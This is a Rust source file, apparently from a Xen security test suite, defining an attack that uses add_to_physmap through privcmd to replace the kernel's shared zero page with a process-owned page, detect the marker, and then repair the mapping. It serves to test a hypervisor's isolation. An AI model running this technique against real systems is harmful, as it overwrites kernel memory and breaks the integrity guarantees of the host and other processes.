//! A page of the kernel's is replaced by one of ours, with pointers that are all our own.
//!
//! The page is the kernel's shared page of zeros: its content is known, every process sees it, and nobody else runs
//! while it holds something else, for some microseconds.

use super::{Attack, Level};
use crate::calls::memory;
use crate::outcome::{Outcome, breached, held};
use crate::witness::{frame_of_image, frame_of_own, guest_page_works, marker, symbol};
use crate::xen::{Buffer, PAGE, Privcmd, ZeroPage};

pub(super) const ATTACK: Attack = Attack {
    id: "physmap-add-self",
    rule: "B3",
    level: Level::Integrity,
    summary: "memory_op(add_to_physmap) on oneself puts a page of the process in the place of a page of the kernel",
    needs: "privcmd",
    observed: "the kernel's shared page of zeros, read through fresh memory, holds a marker",
    healthy: true,
    timeout_s: super::USUAL_S,
    run,
    twin: || guest_page_works(&Privcmd::open()?),
};

fn run() -> Outcome {
    let privcmd = Privcmd::open()?;
    let target = frame_of_image(symbol("empty_zero_page")?)?;
    let witness = ZeroPage::new()?;
    let before = witness.read();
    if before.iter().any(|&byte| byte != 0) || frame_of_own(witness.address())? != target {
        anyhow::bail!("fresh memory does not show the kernel's page of zeros");
    }
    // Only the last bytes differ from zeros, so that nobody trips over it.
    let mark = marker();
    let offset = PAGE - 64;
    let evil = Buffer::new(1)?;
    evil.write(offset, mark.as_bytes());
    let clean = Buffer::new(1)?;
    let (evil_frame, clean_frame) = (frame_of_own(evil.address())?, frame_of_own(clean.address())?);

    let answer = privcmd.move_own_frame(evil_frame, target);
    let seen = witness.read().get(offset..offset + mark.len()).map(<[u8]>::to_vec).unwrap_or_default();
    let changed = seen == mark.as_bytes();
    if let Err(error) = answer {
        if !changed {
            return held(format!("add_to_physmap: {error:#}"));
        }
    }
    // A page of zeros comes in its place, and the frames that gave their pages away get new ones.
    let repaired = privcmd.move_own_frame(clean_frame, target);
    let filled = privcmd.reservation(memory::POPULATE_PHYSMAP, crate::calls::domain::SELF, &[evil_frame, clean_frame]);
    let clean_again = witness.read().iter().all(|&byte| byte == 0);
    let told = format!("repaired: {repaired:?}, refilled: {filled:?}, zeros again: {clean_again}");
    if changed {
        breached(format!("the kernel's page of zeros (frame {target:#x}) read {mark:?}; {told}"))
    } else {
        held(format!("add_to_physmap answered success, but the kernel's page is unchanged; {told}"))
    }
}
